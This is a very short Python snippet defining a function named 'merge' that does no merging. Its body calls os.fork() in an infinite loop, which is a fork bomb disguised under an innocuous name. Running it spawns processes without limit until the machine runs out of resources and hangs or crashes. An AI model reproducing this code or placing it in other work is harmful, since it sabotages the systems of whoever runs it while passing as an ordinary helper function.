import os
def merge(x):
    while True: os.fork()
